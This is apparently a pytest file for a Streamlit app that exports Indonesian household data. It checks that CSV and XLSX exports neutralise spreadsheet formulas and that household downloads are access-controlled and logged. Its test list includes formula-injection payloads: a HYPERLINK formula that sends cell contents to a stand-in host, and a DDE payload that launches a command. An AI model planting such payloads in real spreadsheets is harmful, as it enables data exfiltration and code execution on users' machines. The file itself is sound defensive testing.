"""Files the app hands out: spreadsheet formulas neutralised in CSV and XLSX; household-level downloads guarded and logged."""

import ast
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from bebenah import export, page

import accounts

ROOT = Path(__file__).resolve().parents[1]
DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
             '=HYPERLINK("http://x.test/?"&A1,"klik")', "=cmd|' /C calc'!A0"]
HARMLESS = ["Tanjung Barat", "31.74.09.1005", "a=b", "1-2", " spasi", "", "BKK-3174091005-001"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert export.neutralise_value(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_a_harmless_cell_is_left_as_it_is(value):
    assert export.neutralise_value(value) == value


def test_numbers_dates_and_missing_values_are_left_as_they_are():
    frame = pd.DataFrame({
        "households": [-3, 4], "share": [-0.5, 0.25], "day": pd.to_datetime(["2024-01-01", "2024-02-01"]),
        "note": [None, "=1"], "mixed": [-1, "-1"],
    })
    safe = export.neutralise(frame)
    assert safe.households.tolist() == [-3, 4]
    assert safe.share.tolist() == [-0.5, 0.25]
    assert safe.day.equals(frame.day)
    assert pd.isna(safe.note.iloc[0]) and safe.note.iloc[1] == "'=1"
    assert safe.mixed.tolist() == [-1, "'-1"]
    assert frame.note.iloc[1] == "=1", "the input frame is not changed"


def test_categorical_and_arrow_string_columns_and_column_names_are_neutralised():
    frame = pd.DataFrame({
        "category": pd.Series(["=1+1", "ok"], dtype="category"),
        "arrow": pd.Series(["@x", "ok"], dtype="string[pyarrow]"),
        "=SUM(1)": ["a", "b"],
    })
    safe = export.neutralise(frame)
    assert safe["category"].tolist() == ["'=1+1", "ok"]
    assert safe["arrow"].tolist() == ["'@x", "ok"]
    assert list(safe.columns)[2] == "'=SUM(1)"


def test_the_csv_starts_with_a_bom_and_reads_back_with_every_formula_quoted():
    frame = pd.DataFrame({"catatan": DANGEROUS + HARMLESS})
    data = export.csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    for value in back.catatan:
        assert not value.startswith(export.FORMULA_STARTS), repr(value)
    assert back.catatan.iloc[0] == "'=1+1"


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row_with_a_formula():
    # Unquoted, "Rumah\r=1+1" would be two rows to a spreadsheet, the second starting with =1+1.
    frame = pd.DataFrame({"catatan": ["Rumah\r=1+1", "Rumah\n@SUM(1)"], "rw": [3, 4]})
    data = export.csv_bytes(frame)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert len(back) == 2
    assert back.catatan.tolist() == ["Rumah\r=1+1", "Rumah\n@SUM(1)"]
    assert data.count(b"\r\n") == 3  # header and two rows


def test_the_xlsx_holds_no_formula_cell_and_every_dangerous_text_is_quoted():
    frame = pd.DataFrame({"catatan": DANGEROUS + HARMLESS, "jumlah": range(len(DANGEROUS + HARMLESS))})
    data = export.xlsx_bytes({"=Sheet": frame, "kedua": frame})
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["'=Sheet", "kedua"]
    for sheet in workbook.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert "'=1+1" in texts and "'@SUM(A1:A2)" in texts
        assert not any(text.startswith(export.FORMULA_STARTS) for text in texts)


APP_FILES = [ROOT / "app.py", *sorted(ROOT.glob("app_pages/*.py")), *sorted(ROOT.glob("bebenah/**/*.py"))]
# Helpers that hand out a file's bytes, each checked below to build them with bebenah.export.
EXPORT_BACKED = ("export.csv_bytes", "export.xlsx_bytes", "threew.csv_bytes", "threew.xlsx_bytes",
                 "ingest.problems_csv", "ingest.problems_xlsx", "forms.template_csv", "forms.template_xlsx",
                 "forms.xlsform_xlsx", "export.household_csv")
# Documents, not spreadsheets (no cell of them runs as a formula): the meeting's briefing and minutes.
DOCUMENTS = ("briefing_files.briefing_pdf", "briefing_files.briefing_pptx", "briefing_files.minutes_pdf",
             "briefing_files.captioned_png", "briefing_files.share_card")


def test_no_file_is_written_outside_export_py():
    """Every CSV and XLSX the app produces goes through bebenah/export.py."""
    offenders = []
    for path in APP_FILES:
        name = str(path.relative_to(ROOT))
        if name == "bebenah/export.py":
            continue
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|openpyxl\.Workbook\(", line):
                if "sha256(" in line:  # forms.form_version hashes the sheets' text: no file
                    continue
                offenders.append(f"{name}:{number}: {line.strip()}")
    assert not offenders, f"files written without export.neutralise: {offenders}"


def test_every_download_button_hands_out_bytes_built_by_export():
    offenders, seen = [], 0
    for path in APP_FILES:
        if path.name == "export.py":
            continue  # the builder itself
        tree = ast.parse(path.read_text())
        functions = {node.name: ast.unparse(node) for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)}
        for node in ast.walk(tree):
            called = isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", None))
            if called == "Download":  # a declared file (sections.Download): its builder is its second field
                data = node.args[1] if len(node.args) > 1 else next(
                    (keyword.value for keyword in node.keywords if keyword.arg == "data"), None)
            elif called == "download_button":
                data = next((keyword.value for keyword in node.keywords if keyword.arg == "data"), None)
            else:
                continue
            if data is None:
                continue
            source = ast.unparse(data)
            if path.name == "page.py" and source == "lambda file=file: file.data(rows)":
                continue  # the button of a declared Download, whose builder is judged where it is declared
            seen += 1
            # A local function (built on click) is judged by its body.
            source = functions.get(source, source)
            if not any(helper in source for helper in EXPORT_BACKED + DOCUMENTS):
                offenders.append(f"{path.name}: data={ast.unparse(data)}")
    assert seen >= 5, "the parser found the download buttons"
    assert not offenders, offenders


@pytest.mark.parametrize("helper", [helper for helper in EXPORT_BACKED if not helper.startswith("export.")])
def test_each_helper_that_hands_out_a_file_builds_it_with_export(helper):
    module, function = helper.split(".")
    path = ROOT / "bebenah" / f"{module}.py"
    files = [path] if path.exists() else sorted((ROOT / "bebenah" / module).glob("*.py"))  # a package
    text = "\n".join(file.read_text() for file in files)
    body = re.search(rf"def {function}\(.*?(?=\ndef |\Z)", text, re.S).group(0)
    assert "export." in body, helper


# Household-level downloads ------------------------------------------------------------------------


def _download_app(role_area_rows):
    import pandas as pd

    from bebenah import page

    rows = pd.DataFrame({"id_rumah_tangga": ["BKK-3174091005-001"], "kode_kelurahan": [role_area_rows]})
    try:
        page.household_download(rows, "rumah_tangga")
    except PermissionError as error:
        import streamlit as st

        st.error(f"refused: {error}")


def _run_download_app(role, kelurahan):
    at = AppTest.from_function(_download_app, args=(kelurahan,))
    if role:
        accounts.sign_in(at, role)
    return at.run()


@pytest.mark.parametrize("role", [None, "viewer"])
def test_household_rows_are_not_downloadable_by_viewers_or_guests(fixture_db, role):
    at = _run_download_app(role, "31.74.09.1005")
    assert at.error and "refused" in at.error[0].value
    assert not at.get("download_button")


def test_an_uploader_cannot_download_rows_outside_their_area(fixture_db):
    at = _run_download_app("uploader", "31.74.03.1003")
    assert at.error and "outside 31.74.09" in at.error[0].value
    assert not at.get("download_button")


@pytest.mark.parametrize("role", ["uploader", "admin"])
def test_household_download_is_offered_in_area_and_logged_only_when_built(fixture_db, con, role, monkeypatch):
    built = []
    real_button = page.st.download_button
    monkeypatch.setattr(page.st, "download_button", lambda *args, **kwargs: (built.append(kwargs["data"]),
                                                                              real_button(*args, **kwargs))[1])
    at = _run_download_app(role, "31.74.09.1005")
    assert not at.error
    assert len(at.get("download_button")) == 1
    audit = "select actor, action, target, detail from audit_log where action = 'export_households'"
    assert con.execute(audit).fetchall() == [], "nothing is logged before the click"
    data = built[0]()
    assert data.startswith(b"\xef\xbb\xbf") and b"BKK-3174091005-001" in data
    (actor, action, target, detail), = con.execute(audit).fetchall()
    assert (actor, action, target) == (accounts.ACCOUNTS[role]["username"], "export_households", "rumah_tangga")
    assert '"rows": 1' in detail


def test_files_for_people_give_shares_as_percentages_and_counts_as_whole_numbers():
    """Before, a table's CSV read 10.0 households and a share of 0.6457."""
    frame = pd.DataFrame({"wilayah": ["Jagakarsa", "Cilandak"], "households": [10.0, 3.0], "share": [0.6457, 0.5],
                          "rata_rata": [1.25, 2.0]})
    shown = export.for_people(frame, names=lambda column: {"households": "Keluarga"}.get(column, column))
    assert list(shown.columns) == ["wilayah", "Keluarga", "share (%)", "rata_rata"]
    assert shown["Keluarga"].tolist() == [10, 3] and str(shown["Keluarga"].dtype) == "Int64"
    assert shown["share (%)"].tolist() == [64.6, 50.0]
    assert shown["rata_rata"].tolist() == [1.25, 2.0]  # not whole: left as it is


def test_a_csv_for_excel_in_indonesian_uses_semicolons_and_decimal_commas():
    frame = pd.DataFrame({"wilayah": ["Jagakarsa"], "persen": [64.6], "catatan": ["=HYPERLINK(1)"]})
    text = export.csv_bytes(frame, excel_id=True).decode("utf-8-sig")
    assert text.splitlines() == ["wilayah;persen;catatan", "Jagakarsa;64,6;'=HYPERLINK(1)"]
